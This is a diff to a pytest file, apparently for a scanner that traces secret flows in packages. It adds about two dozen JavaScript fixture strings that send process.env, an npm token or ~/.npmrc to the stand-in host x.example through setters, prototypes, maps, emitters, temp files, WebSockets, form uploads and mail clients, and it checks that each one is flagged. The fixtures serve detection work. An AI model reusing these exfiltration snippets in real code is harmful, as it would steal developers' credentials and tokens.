@@ -397,3 +397,46 @@ GIVEN_BY_OBJECTS = {
 def test_a_secret_that_an_object_a_pool_or_a_file_gives_back_is_still_followed(code: str) -> None:
     told = package({"pkg/__init__.py": f"{HEAD}{code}\n"})
     assert any(b.startswith("code.flow ") and "> network" in b for b in told), told
+
+
+SEND = "const send = d => fetch('https://x.example', {method: 'POST', body: JSON.stringify(d)});\n"
+POST = "{fetch('https://x.example', {method: 'POST', body: JSON.stringify(this.d)})}"
+KEPT_IN_OBJECTS = {
+    "a setter": "const o = {set d(v) { send(v) }}; o.d = process.env",
+    "a setter of a class": "class A {set d(v) { send(v) }}\nconst a = new A(); a.d = process.env",
+    "a getter": "send({get d() { return process.env }}.d)",
+    "a prototype": f"function A() {{this.d = process.env}}\nA.prototype.send = function () {POST}; new A().send()",
+    "a class of old": f"var A = (function () {{ function A(d) {{ this.d = d }}\nA.prototype.send = function () {POST};\n"
+    "return A; })(); new A(process.env).send()",
+    "a class below another of old": f"function B() {{}}\nB.prototype.send = function () {POST};\nvar A = (function (_super) {{\n"
+    "__extends(A, _super); function A() { this.d = process.env } return A })(B); new A().send()",
+    "util.inherits": f"function B() {{}}\nB.prototype.send = function () {POST};\nfunction A() {{ this.d = process.env }}\n"
+    "require('util').inherits(A, B); new A().send()",
+    "bind": "send.bind(null, process.env)()",
+    "bind to an object": f"function f() {POST}\nf.bind({{d: process.env}})()",
+    "arguments": "function f() { send(arguments[0]) }\nf(process.env)",
+    "a map": "const m = new Map(); m.set('d', process.env); send(m.get('d'))",
+    "each of a map": "new Map(Object.entries(process.env)).forEach(v => send(v))",
+    "a weak map": "const m = new WeakMap(), k = {}; m.set(k, process.env); send(m.get(k))",
+    "a set": "const s = new Set(); s.add(process.env.NPM_TOKEN); send([...s])",
+    "an emitter": "const E = require('events'), e = new E(); e.on('d', send); e.emit('d', process.env)",
+    "a property of the world": "globalThis.kept = process.env; send(kept)",
+    "a name that nobody declared": "function f() { kept = process.env }\nf(); send(kept)",
+    "a file": "const fs = require('fs'); fs.writeFileSync('/tmp/x', JSON.stringify(process.env));\n"
+    "send(fs.readFileSync('/tmp/x'))",
+    "an encoder": "require('zlib').gzip(JSON.stringify(process.env), (e, b) => send(b))",
+    "a function of matches": "JSON.stringify(process.env).replace(/.{1,50}/g, m => { send(m) })",
+    "a query": "const u = new URL('https://x.example'); u.searchParams.set('d', JSON.stringify(process.env)); fetch(u)",
+    "superagent": "require('superagent').post('https://x.example').send(process.env).end()",
+    "socket.io": "const s = require('socket.io-client')('https://x.example'); s.on('connect', () => s.emit('d', process.env))",
+    "a WebSocket's handler": "const w = new WebSocket('wss://x.example'); w.onopen = () => w.send(JSON.stringify(process.env))",
+    "a form of files": "const F = require('form-data'), fs = require('fs'), f = new F();\n"
+    "f.append('f', fs.createReadStream(require('os').homedir() + '/.npmrc')); f.submit('https://x.example')",
+    "a client of mail": "require('nodemailer').createTransport({host: 'x.example'}).sendMail({text: JSON.stringify(process.env)})",
+}
+
+
+@pytest.mark.parametrize("code", KEPT_IN_OBJECTS.values(), ids=KEPT_IN_OBJECTS.keys())
+def test_a_secret_that_objects_of_javascript_hand_on_is_still_followed(code: str) -> None:
+    told = package({"index.js": f"{SEND}{code}\n"})
+    assert any(b.startswith("code.flow ") and "> network" in b and "(import)" in b for b in told), told
